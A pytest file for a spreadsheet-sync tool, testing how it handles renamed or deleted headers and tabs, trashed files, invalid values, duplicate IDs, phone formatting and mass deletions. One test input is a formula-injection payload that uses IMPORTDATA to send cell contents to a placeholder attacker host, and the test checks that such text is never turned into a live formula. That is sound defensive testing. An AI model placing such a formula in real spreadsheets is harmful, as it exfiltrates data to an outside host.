"""Whatever people do to a base: a clear message, that row or base held, no loss."""

from __future__ import annotations

import pytest

from sheetsync.core.ids import CLIENTS, sheet_id
from tests.worker.world import (
    CUSTOMERS,
    DRIVE,
    INTERESTED,
    PROSPECTS,
    READY,
    World,
    tab_titled,
)

ANNA = "anna.petrova@northwind.example"
POLINA = "polina.morozova@northwind.example"


@pytest.fixture
def busy(world: World) -> World:
    """A company with a client in Prospects, at rest."""
    world.cycle()
    world.person(ANNA).type(PROSPECTS, READY)
    world.cycle(2)
    return world


def waits(world: World) -> dict[str, str]:
    """What waits for the owner, in English, by base."""
    with world.app.journal.reading() as book:
        return {one.base: one.why.english() for one in book.held.all()}


def head(world: World, header: str, to: str | None, *, tab: str = CLIENTS) -> None:
    """The owner overwrites a header cell."""
    place = world.owner.grid(PROSPECTS, tab)[0].index(header)
    world.owner.write(PROSPECTS, 0, place, to, tab=tab)


def moves_elsewhere(world: World) -> bool:
    """Whether the other bases go on: a client moves from Interested."""
    sergey = world.person("sergey.volkov@northwind.example")
    sergey.type(
        INTERESTED, {"Company": "Other", "Stage": "Customers", "First purchase": 46000}
    )
    world.settle()
    return world.companies(CUSTOMERS) == ["Other"]


@pytest.mark.parametrize("to", ["Firm name", None])
def test_a_renamed_or_deleted_header_holds_its_base_and_no_other(
    busy: World, to: str | None
) -> None:
    head(busy, "Phone", to)

    busy.cycle(2)

    assert "lacks the header “Phone”" in waits(busy)[PROSPECTS]
    assert moves_elsewhere(busy)
    head(busy, to or "", "Phone") if to else busy.owner.write(PROSPECTS, 0, 4, "Phone")
    busy.cycle(2)
    assert waits(busy) == {}
    assert busy.row(PROSPECTS, "Acme")["Phone"] == READY["Phone"]


def test_a_header_in_another_language_or_case_is_still_known(busy: World) -> None:
    head(busy, "Phone", "  ТЕЛЕФОН ")

    busy.cycle(2)

    assert waits(busy) == {}


def test_a_doubled_header_holds_its_base(busy: World) -> None:
    head(busy, "City", "Phone")

    busy.cycle()

    assert PROSPECTS in waits(busy)
    assert moves_elsewhere(busy)


def test_a_renamed_tab_is_found_by_its_id(busy: World) -> None:
    busy.person(ANNA).batch(
        PROSPECTS,
        {
            "updateSheetProperties": {
                "properties": {"sheetId": sheet_id(CLIENTS), "title": "My clients"},
                "fields": "title",
            }
        },
    )
    busy.person(ANNA).pick(PROSPECTS, "Acme", "Interested")

    busy.cycle(3)

    assert busy.companies(INTERESTED) == ["Acme"]
    assert waits(busy) == {}


def test_a_deleted_tab_holds_its_base_and_loses_nobody(busy: World) -> None:
    refused = busy.person(ANNA).batch(
        PROSPECTS, {"deleteSheet": {"sheetId": sheet_id(CLIENTS)}}
    )
    assert refused.status_code == 400  # its header is protected
    busy.owner.batch(PROSPECTS, {"deleteSheet": {"sheetId": sheet_id(CLIENTS)}})

    busy.cycle(3)

    assert "was deleted" in waits(busy)[PROSPECTS]
    with busy.app.journal.reading() as book:
        assert [row.cells["company"] for row in book.rows.of(PROSPECTS).values()] == [
            "Acme"
        ]
    assert moves_elsewhere(busy)


def test_a_deleted_undo_tab_is_made_anew(busy: World) -> None:
    busy.owner.batch(PROSPECTS, {"deleteSheet": {"sheetId": sheet_id("_sheetsync")}})
    busy.clock.sleep(600)
    busy.cycle()
    busy.person(ANNA).pick(PROSPECTS, "Acme", "Interested")

    busy.settle()

    assert tab_titled(busy.owner, PROSPECTS, "_sheetsync")["hidden"] is True
    assert busy.companies(INTERESTED) == ["Acme"]
    assert busy.companies(PROSPECTS) == []


def test_a_trashed_file_holds_its_base_and_no_other(busy: World) -> None:
    url = f"{DRIVE}/{busy.file_id(PROSPECTS)}"
    busy.owner.call("PATCH", url, {"trashed": True})

    busy.cycle()

    assert "lies in the bin" in waits(busy)[PROSPECTS]
    assert moves_elsewhere(busy)
    busy.owner.call("PATCH", url, {"trashed": False})
    busy.cycle()
    assert waits(busy) == {}
    assert busy.companies(PROSPECTS) == ["Acme"]


def test_text_where_a_date_belongs_is_noted_in_the_row_and_holds_it(
    busy: World,
) -> None:
    busy.person(ANNA).edit(
        PROSPECTS, "Acme", next_contact="tomorrow", stage="Interested"
    )

    busy.settle()

    note = str(busy.row(PROSPECTS, "Acme")["Sync note"])
    assert note.startswith("“Next contact” holds text, not a date")
    busy.person(ANNA).edit(PROSPECTS, "Acme", next_contact=46400)
    busy.settle()
    assert busy.row(INTERESTED, "Acme")["Next contact"] == 46400


def test_an_unknown_stage_is_noted_in_the_row(busy: World) -> None:
    busy.person(ANNA).pick(PROSPECTS, "Acme", "Interesting")

    busy.settle()

    assert busy.row(PROSPECTS, "Acme")["Sync note"] == (
        "There is no such stage. Pick one from the list."
    )


def test_an_unknown_manager_in_take_is_noted_in_the_row(busy: World) -> None:
    busy.person(ANNA).edit(PROSPECTS, "Acme", take="Somebody Else")

    busy.settle()

    row = busy.row(PROSPECTS, "Acme")
    assert row["Sync note"] == "Take: nobody of that name works in this base."
    assert "Responsible" not in row


def test_of_two_rows_with_one_id_the_edited_copy_becomes_a_new_client(
    busy: World,
) -> None:
    anna = busy.person(ANNA)
    first = busy.row(PROSPECTS, "Acme")
    anna.type(PROSPECTS, {**first, "Company": "Beta", "Phone": "+7812"})

    busy.cycle(2)

    assert busy.row(PROSPECTS, "Acme")["ID"] == first["ID"]
    assert busy.row(PROSPECTS, "Beta")["ID"] != first["ID"]


def test_two_equal_rows_with_one_id_are_held_until_a_person_decides(
    busy: World,
) -> None:
    anna = busy.person(ANNA)
    anna.type(PROSPECTS, busy.row(PROSPECTS, "Acme"))

    busy.cycle(2)

    notes = sorted(str(row.get("Sync note", "")) for row in busy.rows(PROSPECTS))
    assert notes[0] == ""
    assert notes[1].startswith("This row has the same ID as another")
    assert PROSPECTS in waits(busy)


def test_a_cleared_id_is_put_back(busy: World) -> None:
    before = busy.row(PROSPECTS, "Acme")["ID"]
    busy.person(ANNA).type(PROSPECTS, {"ID": None, "City": "Tula"}, at=1)

    busy.cycle(2)

    assert busy.row(PROSPECTS, "Acme")["ID"] == before
    assert len(busy.rows(PROSPECTS)) == 1


@pytest.mark.parametrize(
    "name",
    [
        '=IMPORTDATA("http://evil.example/?"&A1)',
        "=1+1",
        "+7 (916) 000-00-00",
        "@all",
        "-5",
        "🌵 Кактус ☎",
        "שלום עולם",
        "a\nb",
    ],
)
def test_odd_text_travels_as_it_is_and_never_becomes_a_formula(
    world: World, name: str
) -> None:
    world.cycle()
    world.person(ANNA).write_row(PROSPECTS, {**READY, "Company": name, "City": "X"})
    world.cycle()
    world.person(ANNA).write(PROSPECTS, 1, 10, "Interested")

    world.cycle(3)

    assert [row["Company"] for row in world.rows(INTERESTED)] == [name]
    assert world.formulas(INTERESTED) == []


def test_a_formula_arrives_as_its_value(world: World) -> None:
    world.cycle()
    anna = world.person(ANNA)
    anna.type(PROSPECTS, {**READY, "Needs": "=1+2", "Stage": "Interested"})

    world.settle()

    assert world.row(INTERESTED, "Acme")["Needs"] == 3
    assert world.formulas(INTERESTED) == []


def test_phones_keep_their_plus_and_zeros_through_the_whole_conveyor(
    world: World,
) -> None:
    world.cycle()
    anna = world.person(ANNA)
    for number, phone in enumerate(["+74951234567", "0042", "8 (495) 123-45-67"]):
        anna.type(
            PROSPECTS,
            {**READY, "Company": f"A{number}", "Phone": phone, "Stage": "Interested"},
        )
    world.settle()
    sergey = world.person("sergey.volkov@northwind.example")
    for number in range(3):
        sergey.edit(INTERESTED, f"A{number}", stage="Customers", first_purchase=46000)

    world.settle()

    phones = [row["Phone"] for row in world.rows(CUSTOMERS)]
    assert sorted(map(str, phones)) == ["+74951234567", "0042", "8 (495) 123-45-67"]


def test_an_empty_base_is_fine(world: World) -> None:
    world.settle()

    assert waits(world) == {}
    assert world.rows(CUSTOMERS) == []


def test_many_rows_deleted_at_once_freeze_the_base(world: World) -> None:
    world.cycle()
    anna = world.person(ANNA)
    for number in range(12):
        anna.type(PROSPECTS, {"Company": f"A{number}"}, at=1 + number)
    world.cycle(2)
    for number in range(8):
        anna.delete(PROSPECTS, f"A{number}")

    world.settle()

    assert waits(world)[PROSPECTS] == "8 of 12 clients changed at once: 8 deleted"
    assert len(world.companies(PROSPECTS)) == 4
    with world.app.journal.reading() as book:
        assert len(book.rows.of(PROSPECTS)) == 12

    world.app.cycle(force=True)
    world.clock.sleep(30)
    world.app.cycle(force=True)

    assert len(world.companies(PROSPECTS)) == 12
